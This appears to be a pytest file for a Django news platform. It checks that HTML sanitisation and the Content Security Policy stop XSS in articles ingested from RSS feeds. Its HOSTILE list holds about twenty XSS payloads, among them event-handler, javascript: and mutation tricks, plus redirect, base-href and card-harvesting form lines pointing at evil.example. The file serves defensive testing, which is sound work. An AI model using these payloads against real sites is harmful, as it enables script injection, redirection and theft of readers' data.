"""No script gets in: hostile HTML comes through the wire, and the page is watched in a browser.
And were one to get past the cleaning, the page's policy would stop it."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from factories.content import make_article, make_section, text_block
from factories.wire import make_source
from masthead.content.models import Article
from masthead.core import clock
from masthead.wire.pipeline import ingest

pytestmark = pytest.mark.django_db(transaction=True)

CORPUS = Path(
    os.environ.get("MASTHEAD_CORPORA") or Path(__file__).resolve().parents[3] / "shared" / "corpora"
)
SIGN = "window.__broken = (window.__broken || 0) + 1"
HOSTILE = [
    f"<script>{SIGN}</script>",
    f'<img src=x onerror="{SIGN}">',
    f'<svg onload="{SIGN}"><animate onbegin="{SIGN}" attributeName=x></svg>',
    f'<a href="javascript:{SIGN}">link</a>',
    f'<a href="jav&#x09;ascript:{SIGN}">link</a>',
    f'<iframe srcdoc="<script>parent.{SIGN}</script>"></iframe>',
    f'<details open ontoggle="{SIGN}">x</details>',
    f'<p style="background:url(javascript:{SIGN})">x</p>',
    "<style>body{display:none}</style>",
    '<style>@import "http://evil.example/x.css";</style>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SIGN}">',
    f'<form action="https://evil.example/"><input name=card><button>{SIGN}</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    f'<noscript><p title="</noscript><img src=x onerror={SIGN}>">',
    f'<object data="data:text/html,<script>{SIGN}</script>"></object>',
    f'<video><source onerror="{SIGN}"></video>',
    f'"><script>{SIGN}</script>',
    f"<template><script>{SIGN}</script></template>",
]


ITEM = (
    "<item><guid>hostile-{n}</guid><title>Hostile {n} &lt;b onclick=x&gt;</title>"
    "<description><![CDATA[<p>Before.</p>{body}<p>After.</p>]]></description></item>"
)


def feed_of(bodies):
    items = "".join(ITEM.format(n=n, body=body.replace("]]>", "")) for n, body in enumerate(bodies))
    return f'<rss version="2.0"><channel><title>x</title>{items}</channel></rss>'.encode()


def corpus_bodies():
    folder = CORPUS / "hostile"
    texts = []
    for path in sorted((folder / "xss-patt").rglob("*.txt"))[:4] if folder.is_dir() else []:
        text = path.read_text(errors="replace")
        texts += [line for line in text.splitlines() if "<" in line][:60]
    return [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", line) for line in texts]


def test_hostile_copy_from_the_wire_runs_nothing_in_a_readers_browser(browse):
    bodies = [*HOSTILE, *corpus_bodies()]
    source = make_source(default_section=make_section("Headlines"))
    lines = list(ingest([("hostile.xml", feed_of(bodies))], source=source))
    assert {str(line.outcome) for line in lines} <= {"created", "held"}
    dialogs = []
    with browse() as visit:
        visit.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        articles = Article.objects.released(clock.now())
        assert articles.count() >= len(HOSTILE) - 2
        for article in articles:
            visit.to(article.url)
            assert visit.page.url.endswith(article.url), "the page led somewhere else"
            assert visit.page.evaluate("window.__broken") is None, article.headline
            assert visit.page.locator("[data-part=body]").is_visible()
    assert dialogs == []


def test_the_policy_stops_a_script_that_got_past_the_cleaning(browse):
    article = make_article(
        "Planted", section=make_section("Headlines"), body=[text_block("<p>Before.</p>")]
    )
    raw = [
        {"type": "text", "value": f'<p>Before.</p><script>{SIGN}</script><b onclick="{SIGN}">b</b>'}
    ]
    Article.objects.filter(pk=article.pk).update(body=raw)
    with browse() as visit:
        visit.to(article.url)
        visit.page.evaluate(
            """sign => {
                const script = document.createElement("script");
                script.textContent = sign;
                document.body.append(script);
                const image = document.createElement("img");
                image.setAttribute("onerror", sign);
                image.src = "/no-such-picture";
                document.body.append(image);
            }""",
            SIGN,
        )
        visit.page.wait_for_timeout(300)
        assert visit.page.evaluate("window.__broken") is None
        assert any("Content Security Policy" in one for one in visit.complaints)
        visit.complaints.clear()
